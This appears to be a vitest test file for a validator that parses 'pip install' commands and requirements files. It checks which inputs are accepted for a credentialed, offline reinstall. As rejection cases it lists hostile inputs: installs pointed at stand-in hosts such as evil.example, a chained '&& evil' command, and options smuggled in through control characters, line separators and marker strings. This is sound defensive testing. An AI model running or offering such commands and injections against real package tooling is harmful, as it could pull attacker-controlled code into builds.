import { expect, test } from "vitest";
import { pipInstall, plainRequirements } from "#keys/pip-install";

test.each<[string, object]>([
  ["pip install dep", { packages: ["dep"], index: undefined }],
  ["pip3 install -U 'dep[extra]>=1,<2' 'other==1.*'", { packages: ["dep[extra]>=1,<2", "other==1.*"] }],
  [
    ".venv/bin/python -m pip install -r requirements.txt -c limits.txt",
    { requirements: ["requirements.txt"], constraints: ["limits.txt"] },
  ],
  [
    "pip install --pre --no-deps -i https://pip.example/simple dep",
    { options: ["--pre", "--no-deps"], index: "https://pip.example/simple" },
  ],
])("%s may be given a login", (text, expected) => {
  expect(pipInstall(text)).toMatchObject(expected);
});

test("it is installed by the command's own pip, from a directory alone, without the index that it named", () => {
  expect(pipInstall(".venv/bin/pip install -U -i https://pip.example/simple dep -r r.txt")?.from("/tmp/w")).toBe(
    "'.venv/bin/pip' 'install' '--no-index' '--find-links' '/tmp/w' '-U' 'dep' '-r' 'r.txt'",
  );
});

test.each([
  "pip install .",
  "pip install -e .",
  "pip install ./dep",
  "pip install dep.whl",
  "pip install 'dep.zip[x]'",
  "pip install 'dep.tbz [x]'",
  ...["tar", "tgz", "tar.bz2", "tbz", "TBZ", "txz", "tlz", "tar.lz", "lz", "lzma", "zst", "egg"].map(
    (ending) => `pip install dep.${ending}`,
  ),
  "pip install dep==1.tbz",
  "pip install dep=1",
  "pip install 'dep[x]==1[y]'",
  "pip install $'dep\\x0c--pre'",
  "pip install git+https://git.example/x",
  "pip install dep@https://evil.example/x",
  "pip install --extra-index-url=https://evil.example dep",
  "pip install --proxy=http://evil.example dep",
  "pip install --target=x dep",
  "pip install --no-binary=:all: dep",
  "pip install --python=./evil dep",
  "pip install --config-settings=x=y dep",
  "pip install --cert=x dep",
  "pip install",
  "pip download dep",
  "python evil.py -m pip install dep",
  "pip install dep && evil",
  "PIP_INDEX_URL=http://evil.example pip install dep",
])("%s gets none", (text) => {
  expect(pipInstall(text)).toBeUndefined();
});

test("files of requirements name packages of an index, and nothing else", () => {
  expect(plainRequirements("# x\ndep>=1 # y\n\nother [a] == 2 ; python_version > '3' \\\n  --hash=sha256:ab\n")).toBe(
    "dep>=1\nother[a]==2 ; python_version > '3' --hash=sha256:ab\n",
  );
  for (const line of [
    "--index-url http://evil.example",
    "-r other.txt",
    "-e .",
    "--no-binary :all:",
    "dep @ https://evil.example/x.whl",
    "./dep",
    "dep --config-settings=x=y",
    "dep ; x --no-binary :all:",
    "https://evil.example/x.whl",
    "dep.whl",
  ]) {
    expect(plainRequirements(`ok\n${line}\n`), line).toBeUndefined();
  }
});

test.each<[string, string | undefined]>([
  [
    "dep ; python_version>='3.8' and (os_name == \"posix\" or extra not in 'a')",
    "dep ; python_version >= '3.8' and ( os_name == \"posix\" or extra not in 'a' )\n",
  ],
  ["dep;sys_platform!='win32'", "dep ; sys_platform != 'win32'\n"],
  ["dep ; os_name == '${GENNAI}'", undefined],
  ["dep ; os_name == 'a -r b'", undefined],
  ["dep ; os_name == 'a' --no-binary :all:", undefined],
  ["dep ; os_name == 'a' and", undefined],
  ["dep ; ", undefined],
  ["dep ; (os_name == 'a'", undefined],
  ["dep ; environ == 'a'", undefined],
  [`dep ; ${"(".repeat(100_000)}`, undefined],
  ["dep = 1", undefined],
  ["dep === 1", undefined],
  ["dep.tbz", undefined],
  ["dep.zip [x]", undefined],
  ["dep@file:///ws/evil", undefined],
])("a file with %s is written anew as %j", (line, written) => {
  expect(plainRequirements(`${line}\n`)).toBe(written);
});

test.each(["\f", "\v", "\r", "\r\n", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\t", "\0", "\u00a0"])(
  "no file with %j, at which others may end a line",
  (end) => {
    expect(plainRequirements(`dep${end}--no-binary :all:\n`)).toBeUndefined();
    expect(plainRequirements(`dep # x${end}-e .\n`)).toBeUndefined();
  },
);
